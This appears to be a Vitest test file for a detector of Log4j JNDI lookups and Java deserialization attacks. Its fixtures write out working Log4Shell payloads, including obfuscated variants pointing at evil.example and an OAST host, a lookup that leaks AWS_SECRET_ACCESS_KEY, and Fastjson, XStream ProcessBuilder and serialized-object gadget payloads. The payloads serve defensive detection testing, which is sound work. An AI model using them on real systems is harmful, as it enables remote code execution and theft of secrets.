import { describe, expect, it } from 'vitest';
import { detectJavaDeserialization, detectJndi } from '../../src/detect/java/index.ts';
import { resolveLookups } from '../../src/detect/java/lookup.ts';
import { checkAttacks, checkBenign, checkRobust } from './fixture-check.ts';

describe('log4j lookup resolver', () => {
  it('sees through nested obfuscations', () => {
    expect(resolveLookups('${${lower:J}${::-n}${env:NOPE:-d}${upper:i}:x}').text.toLowerCase()).toBe('${jndi:x}');
    expect(resolveLookups("${${date:'j'}ndi:x}").text).toBe('${jndi:x}');
  });
});

describe('JNDI detector', () => {
  checkAttacks(
    detectJndi,
    'jndi',
    [
      { value: '${jndi:ldap://evil.example/a}', rule: 'jndi.lookup' },
      { value: 'Mozilla ${jndi:rmi://evil.example:1099/x}' },
      { value: '${jndi:ldap://${hostName}.x.oast.me/a}' },
      { value: '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil/a}' },
      { value: '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil/a}' },
      { value: '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil/a}' },
      { value: '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil/a}' },
      { value: '${${upper:j}${upper:n}${upper:d}${upper:i}:dns://evil/a}' },
      { value: "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil/a}" },
      { value: '${env:AWS_SECRET_ACCESS_KEY}', severity: 1, rule: 'jndi.log4j_lookup' },
    ],
    'header',
  );
  checkBenign(detectJndi, [
    { value: '${price} and ${name}' },
    { value: 'Mozilla/5.0 (X11; Linux x86_64)' },
    { value: 'const url = `${base}/api`;', location: 'body' },
  ]);
  checkRobust(detectJndi);
});

describe('Java deserialization detector', () => {
  checkAttacks(detectJavaDeserialization, 'java_deserialization', [
    { value: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC', rule: 'java.serialized_object' },
    { value: 'aced0005737200116a6176612e7574696c2e486173684d6170' },
    { value: 'ACED0005737200' },
    { value: '\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap' },
    { value: 'session=rO0ABXNyABFqYXZhLnV0aWwu' },
    { value: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/a","autoCommit":true}', rule: 'java.gadget_class' },
    { value: '<map><entry><jdk.nashorn.x/><java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder></entry></map>' },
    { value: 'org.apache.commons.collections.functors.InvokerTransformer' },
    { value: '{"@class":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"}' },
  ]);
  checkBenign(detectJavaDeserialization, [
    { value: 'Learning java.lang.Runtime in class today', location: 'body' },
    { value: 'rO0 is not a word' },
    { value: 'com.example.app.Main' },
    { value: 'hello world' },
    { value: 'I use java.util.PriorityQueue for scheduling', location: 'body' },
  ]);
  checkRobust(detectJavaDeserialization);
});
